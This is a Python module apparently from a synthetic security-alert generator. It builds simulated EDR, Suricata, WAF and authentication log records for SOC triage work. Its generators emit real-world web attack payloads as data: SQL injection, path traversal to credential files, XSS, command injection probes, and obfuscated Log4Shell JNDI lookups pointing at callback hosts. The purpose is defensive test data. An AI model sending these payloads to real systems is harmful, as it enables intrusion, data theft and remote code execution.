"""Shared parts of the synthetic alert scenarios: types, rules, body builders, free text.

Everything here is reused across :mod:`alertlens.synth.scenarios`: the type aliases and the
``World`` and ``Site`` pools, small random helpers (hex, words, GUIDs, ``encode_powershell``), the
SIEM and Suricata rule tables, the source-native body builders (``_edr``, ``_ids``, ``_waf``,
``_auth``, with ``_flow`` and ``_http``), the free-text generators (user agents, web paths,
SQLi, traversal, XSS, RCE and JNDI payloads, URL arguments), the host and user pickers, and the
Windows accounts, images and parents that admins and attackers alike start processes from.

Severity: ``RULES`` holds the SIEM rule severity, 1 (low) to 4 (critical). Suricata's native
``alert.severity`` counts the other way (1 is the most severe), so IDS bodies carry ``5 - s``.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from random import Random
from typing import Any
from urllib.parse import quote

Body = dict[str, Any]
Built = tuple[str, Body]
Host = tuple[str, str, str]  # (name, ip, os)
Parent = tuple[str, str]  # (process name, command line)
FP = "false_positive"
TP = "true_positive"

BASE32 = "abcdefghijklmnopqrstuvwxyz234567"


def words(text: str) -> tuple[str, ...]:
    """Whitespace-separated word lists read better than one string per line."""
    return tuple(text.split())


SYLLABLES = words(
    "ka lo mi zu te ra no vi sha qu xe bo fy dra gen tor lux pex vor nim cal zen ori sky net dat"
)


@dataclass(frozen=True, slots=True)
class World:
    """Pools shared by every tenant: the internet as the SOC sees it."""

    attackers: tuple[tuple[str, str], ...]  # (ip, geo country)
    payload_hosts: tuple[str, ...]
    c2_domains: tuple[str, ...]
    tunnel_domains: tuple[str, ...]
    cloud_ips: tuple[str, ...]
    common_ja3: tuple[str, ...]
    rare_ja3: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Site:
    """One tenant's estate: the hosts, users and names its scenarios draw from."""

    tenant: str
    netbios: str
    country: str
    vhosts: tuple[str, ...]
    workstations: tuple[Host, ...]
    dev_workstations: tuple[Host, ...]
    windows_servers: tuple[Host, ...]
    iis_servers: tuple[Host, ...]
    linux_web: tuple[Host, ...]
    linux_servers: tuple[Host, ...]
    staging: tuple[Host, ...]
    monitors: tuple[Host, ...]
    dns_servers: tuple[Host, ...]
    users: tuple[str, ...]
    service_accounts: tuple[str, ...]
    file_server: str
    home_ips: tuple[tuple[str, str], ...]  # (ip, geo country) of staff working remotely
    world: World

    @property
    def web_servers(self) -> tuple[Host, ...]:
        """Servers behind the WAF: IIS and Linux web hosts."""
        return self.iis_servers + self.linux_web


def hexs(rng: Random, n: int) -> str:
    """``n`` random lowercase hex digits."""
    return f"{rng.getrandbits(4 * n):0{n}x}"


def word(rng: Random) -> str:
    """A pronounceable made-up word (product, domain, job names)."""
    return "".join(rng.choices(SYLLABLES, k=rng.randint(2, 3)))


def guid(rng: Random) -> str:
    """A Windows-style GUID in braces."""
    return (
        f"{{{hexs(rng, 8)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 12)}}}".upper()
    )


def encode_powershell(script: str) -> str:
    """Base64 of UTF-16LE text, the form ``powershell -EncodedCommand`` expects."""
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


# ---- rules --------------------------------------------------------------------------------------

# SIEM rule name -> (rule id, severity 1..4). Names are shared across scenarios on purpose.
RULES: dict[str, tuple[int, int]] = {
    "Suspicious PowerShell Execution": (100101, 3),
    "Suspicious Certutil Usage": (100102, 3),
    "Signed Binary Proxy Execution": (100103, 3),
    "Web Server Spawned Shell": (100104, 4),
    "Reconnaissance Command Execution": (100105, 2),
    "Shadow Copy Manipulation": (100106, 3),
    "Mass File Copy to Network Share": (100107, 1),
    "Hacktool Execution": (100108, 3),
    "Execution from Unusual Directory": (100109, 2),
    "Multiple Failed Logins": (200101, 1),
    "Brute Force Attempt": (200102, 2),
    "Password Spraying Detected": (200103, 3),
    "SQL Injection Attempt": (300101, 3),
    "Path Traversal Attempt": (300102, 3),
    "Cross-Site Scripting Attempt": (300103, 2),
    "Remote Code Execution Attempt": (300104, 4),
    "Log4j JNDI Injection Attempt": (300105, 4),
    "Suspicious User-Agent": (300106, 1),
    "Sensitive Path Access": (300107, 2),
}
NMAP_UA_RULE = "ET SCAN Possible Nmap User-Agent Observed"
SQLMAP_RULE = "ET SCAN Sqlmap SQL Injection Scan"
UNION_RULE = "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT"
PASSWD_RULE = "ET WEB_SERVER /etc/passwd Detected in URI"
LOG4J_RULE = "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)"
ODD_UA_RULE = "ET USER_AGENTS Suspicious User-Agent"
APT_RULE = "ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management"
YUM_RULE = "ET POLICY GNU/Linux YUM User-Agent Outbound likely related to package management"
EXE_RULE = "ET INFO Executable Download with Minimal HTTP Headers"
LONG_DNS_RULE = "ET INFO DNS Query with Unusually Long Subdomain"
TLS_RULE = "ET POLICY TLS Connection to Uncommon Domain"
JA3_RULE = "ET JA3 Suspicious JA3 Client Fingerprint"
# Suricata signatures: name -> (signature id, SIEM severity, Suricata category).
IDS_RULES: dict[str, tuple[int, int, str]] = {
    NMAP_UA_RULE: (2024364, 2, "Detection of a Network Scan"),
    SQLMAP_RULE: (2008538, 2, "Attempted Information Leak"),
    UNION_RULE: (2006446, 3, "Web Application Attack"),
    PASSWD_RULE: (2009151, 3, "Attempted Information Leak"),
    LOG4J_RULE: (2034647, 4, "Attempted Administrator Privilege Gain"),
    ODD_UA_RULE: (2010697, 2, "Misc activity"),
    APT_RULE: (2013504, 1, "Not Suspicious Traffic"),
    YUM_RULE: (2013505, 1, "Not Suspicious Traffic"),
    EXE_RULE: (2018959, 3, "Potentially Bad Traffic"),
    LONG_DNS_RULE: (2033966, 3, "Potentially Bad Traffic"),
    TLS_RULE: (2036000, 2, "Potential Corporate Privacy Violation"),
    JA3_RULE: (2028371, 2, "Unknown Traffic"),
}
RULES.update({name: (sid, sev) for name, (sid, sev, _) in IDS_RULES.items()})

# ---- body builders ------------------------------------------------------------------------------


def _edr(rng: Random, host: Host, exe: str, cmd: str, user: str, parent: Parent) -> Body:
    """EDR process alert body; ``exe`` is the full image path."""
    return {
        "host": {"name": host[0], "ip": host[1], "os": host[2]},
        "process": {
            "name": exe.replace("/", "\\").rsplit("\\", 1)[-1],
            "path": exe,
            "command_line": cmd,
            "pid": rng.randrange(400, 65000, 4),
            "user": user,
            "parent": {"name": parent[0], "command_line": parent[1]},
        },
    }


# Flow counters per traffic shape: (pkts to server, to client, bytes/pkt to server, to client).
FLOW_SHAPES: dict[str, tuple[tuple[int, int], ...]] = {
    "dns": ((1, 2), (1, 2), (70, 260), (90, 420)),
    "beacon": ((5, 9), (4, 8), (90, 180), (80, 260)),
    "web": ((4, 30), (4, 60), (80, 700), (200, 1400)),
    "bulk": ((30, 900), (60, 4000), (60, 200), (900, 1460)),
}


def _flow(rng: Random, shape: str) -> Body:
    """Suricata flow counters drawn for a traffic shape."""
    pts, ptc, bts, btc = FLOW_SHAPES[shape]
    to_server, to_client = rng.randint(*pts), rng.randint(*ptc)
    return {
        "pkts_toserver": to_server,
        "pkts_toclient": to_client,
        "bytes_toserver": to_server * rng.randint(*bts),
        "bytes_toclient": to_client * rng.randint(*btc),
    }


def _ids(
    rng: Random, rule: str, src: str, dest: tuple[str, int], section: Built, shape: str
) -> Built:
    """Suricata EVE alert: 5-tuple, alert block, one protocol section, flow counters."""
    app_proto, payload = section
    sid, severity, category = IDS_RULES[rule]
    return rule, {
        "event_type": "alert",
        "src_ip": src,
        "src_port": rng.randint(1024, 65535),
        "dest_ip": dest[0],
        "dest_port": dest[1],
        "proto": "UDP" if app_proto == "dns" else "TCP",
        "app_proto": app_proto,
        "alert": {
            "signature": rule,
            "signature_id": sid,
            "category": category,
            "severity": 5 - severity,
            "action": "blocked" if rng.random() < 0.08 else "allowed",
        },
        app_proto: payload,
        "flow": _flow(rng, shape),
    }


def _http(host: str, url: str, ua: str, method: str, status: int, length: int) -> Built:
    """The ``http`` section of an EVE record."""
    fields = {"hostname": host, "url": url, "http_user_agent": ua, "http_method": method}
    return "http", {**fields, "status": status, "length": length}


def _waf(
    rng: Random,
    site: Site,
    client: str,
    request: tuple[str, str, str, str],
    status: int,
    matched_rule: str,
) -> Body:
    """WAF log body; ``request`` is (method, uri, args, user agent). A 403 means blocked."""
    method, uri, args, ua = request
    return {
        "client": {"ip": client},
        "host": {"name": rng.choice(site.web_servers)[0]},
        "request": {
            "method": method,
            "host": rng.choice(site.vhosts),
            "uri": uri,
            "args": args,
            "user_agent": ua,
            "length": len(uri) + len(args) + len(ua) + rng.randint(120, 900),
        },
        "response": {
            "status": status,
            "length": rng.randint(900, 80000) if status == 200 else rng.randint(0, 700),
        },
        "waf": {"action": "block" if status == 403 else "detect", "matched_rule": matched_rule},
    }


def _auth(
    site: Site,
    user: str,
    client: tuple[str, str],
    target: str,
    auth: tuple[str, str, str, int, int],
) -> Body:
    """Auth log body; ``auth`` is (service, method, outcome, failures_last_hour, distinct_users)."""
    service, method, outcome, failures, distinct = auth
    return {
        "user": {"name": user, "domain": site.netbios},
        "client": {"ip": client[0], "geo_country": client[1]},
        "host": {"name": target},
        "auth": {
            "service": service,
            "method": method,
            "outcome": outcome,
            "failures_last_hour": failures,
            "distinct_users_from_ip": distinct,
        },
    }


# ---- free text ----------------------------------------------------------------------------------

BROWSER_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.{b}.{p} Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.{b}.{p} Safari/537.36 Edg/{v}.0.{b}.{p}",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.{m} Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/{v}.0.{b}.{p} Mobile Safari/537.36",
)
MONITOR_UAS = (
    "check_http/v2.3.3 (nagios-plugins 2.3.3)",
    "Zabbix",
    "Zabbix 6.4.10",
    "Prometheus/2.48.1",
    "Blackbox Exporter/0.24.0",
    "kube-probe/1.28",
    "Datadog Agent/7.50.3",
    "Go-http-client/1.1",
    "python-requests/2.31.0",
    "curl/8.4.0",
    "ELB-HealthChecker/2.0",
    "Uptime-Kuma/1.23.11",
)
# Beacons favour stale or bare user agents; some overlap with monitoring tools on purpose.
C2_UAS = (
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2)",
    "Microsoft Internet Explorer",
    "WinHTTP loader/1.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "Go-http-client/1.1",
    "python-requests/2.25.1",
    "curl/7.55.1",
)
WEB_PATHS = words(
    "/products /product/view /search /api/v1/orders /api/v2/users /account/profile /cart/add "
    "/login /catalog/item /news/article /support/ticket /reports/export /download /index.php "
    "/view.php /item.asp /portal/docs /api/v1/invoices /customer/lookup /shop/category "
    "/admin/users /wp-login.php /graphql /cgi-bin/q"
)
PATH_WORDS = words(
    "static assets v2 legacy public uploads beta archive internal media files docs tmp cdn img data"
)
URL_PARAMS = words(
    "id q search item product_id cat page user file path doc lang ref sort order uid pid name "
    "category query report template view"
)
LOG4J_TEMPLATES = (
    "${jndi:{p}://{c}}",
    "${${lower:j}ndi:{p}://{c}}",
    "${${::-j}${::-n}${::-d}${::-i}:{p}://{c}}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://{c}}",
    "${${env:NaN:-j}ndi${env:NaN:-:}{p}${env:NaN:-:}//{c}}",
    "${j${::-n}di:{p}://{c}}",
    "${${upper:j}ndi:{p}://{c}}",
    "${${lower:jnd}${lower:i}:{p}://{c}}",
)


def browser_ua(rng: Random) -> str:
    """A current-looking browser user agent with randomized versions."""
    template = rng.choice(BROWSER_UAS)
    return template.format(
        v=rng.randint(118, 133),
        b=rng.randint(4000, 6999),
        p=rng.randint(0, 220),
        m=rng.randint(0, 6),
    )


def web_path(rng: Random) -> str:
    """A plausible application path, sometimes with a numeric or word segment."""
    path, roll = rng.choice(WEB_PATHS), rng.random()
    if roll < 0.3:
        return f"{path}/{rng.randint(1, 99999)}"
    if roll < 0.45:
        return f"/{rng.choice(PATH_WORDS)}{path}"
    return path


def sqli(rng: Random) -> str:
    """A real-world SQL injection payload with randomized numbers and columns."""
    n = rng.randint(1, 9999)
    nulls = ",".join(["NULL"] * rng.randint(2, 8))
    table = rng.choice(("users", "accounts", "admin", "customers", "members"))
    return rng.choice(
        (
            f"{n}' OR 1=1--",
            "' OR '1'='1",
            f"{n} OR 1=1-- -",
            f"{n} UNION SELECT {nulls}--",
            f"{n}' UNION SELECT username,password FROM {table}--",
            f"-{n} UNION ALL SELECT table_name,{nulls} FROM information_schema.tables--",
            f"{n} AND SLEEP({rng.randint(3, 15)})",
            f"{n}';WAITFOR DELAY '0:0:{rng.randint(3, 9)}'--",
            f"{n}' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
            "admin'--",
            f"{n} AND 1=CONVERT(int,@@version)--",
        )
    )


def traversal(rng: Random) -> str:
    """A path traversal payload of random depth and encoding."""
    depth = rng.randint(2, 9)
    target = rng.choice(("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ"))
    windows = rng.choice(("windows\\win.ini", "boot.ini", "inetpub\\wwwroot\\web.config"))
    return rng.choice(
        (
            "../" * depth + target,
            "..%2f" * depth + target.replace("/", "%2f"),
            "....//" * depth + target,
            "%2e%2e%2f" * depth + target,
            "..\\" * depth + windows,
        )
    )


def xss(rng: Random) -> str:
    """A reflected XSS probe."""
    n = rng.randint(1, 99999)
    return rng.choice(
        (
            f"<script>alert({n})</script>",
            '"><svg/onload=alert(document.domain)>',
            f"<img src=x onerror=prompt({n})>",
            "javascript:alert(document.cookie)",
        )
    )


def rce(rng: Random) -> str:
    """An OS command / code injection probe."""
    return rng.choice(
        (
            ";cat /etc/passwd",
            "|id",
            f"$(sleep {rng.randint(3, 12)})",
            "`uname -a`",
            "<?php phpinfo(); ?>",
            f"&ping -c {rng.randint(2, 9)} 127.0.0.1&",
        )
    )


def jndi(rng: Random, callback: str) -> str:
    """A Log4Shell lookup, plain or obfuscated the way exploit kits and scanners send it."""
    proto = rng.choice(("ldap", "ldap", "ldaps", "rmi", "dns"))
    return rng.choice(LOG4J_TEMPLATES).replace("{p}", proto).replace("{c}", callback)


def payload_url(rng: Random, site: Site, ext: str) -> str:
    """A URL on an attacker-controlled staging host."""
    scheme = "https" if rng.random() < 0.3 else "http"
    stem = rng.choice(
        (
            f"{word(rng)}/{hexs(rng, 8)}",
            word(rng),
            hexs(rng, 6),
            f"{rng.choice(PATH_WORDS)}/{word(rng)}",
        )
    )
    return f"{scheme}://{rng.choice(site.world.payload_hosts)}/{stem}.{ext}"


def _encode(rng: Random, payload: str) -> str:
    """Attack tools and browsers encode differently; keep a mix so encoding is no tell."""
    roll = rng.random()
    if roll < 0.4:
        return quote(payload, safe="")
    return payload.replace(" ", "+") if roll < 0.7 else payload


def _args(rng: Random, payload: str) -> str:
    args = f"{rng.choice(URL_PARAMS)}={_encode(rng, payload)}"
    if rng.random() < 0.4:
        args += f"&{rng.choice(URL_PARAMS)}={rng.randint(1, 500)}"
    return args


def _host(rng: Random, site: Site, server_share: float) -> Host:
    """A workstation, or a Windows server with probability ``server_share``."""
    return rng.choice(site.windows_servers if rng.random() < server_share else site.workstations)


def _user(rng: Random, site: Site) -> str:
    return f"{site.netbios}\\{rng.choice(site.users)}"


# Windows accounts, images and parents that admins and attackers alike start processes from.
SYSTEM = "NT AUTHORITY\\SYSTEM"
SCHEDULER: Parent = ("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")
EXPLORER: Parent = ("explorer.exe", "C:\\Windows\\Explorer.EXE")
WMIPRVSE: Parent = ("WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding")
CMD_PARENT: Parent = ("cmd.exe", '"C:\\Windows\\system32\\cmd.exe"')
SYS32 = "C:\\Windows\\System32\\"
POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYS32 + "cmd.exe"
PROXY_RULE = "Signed Binary Proxy Execution"
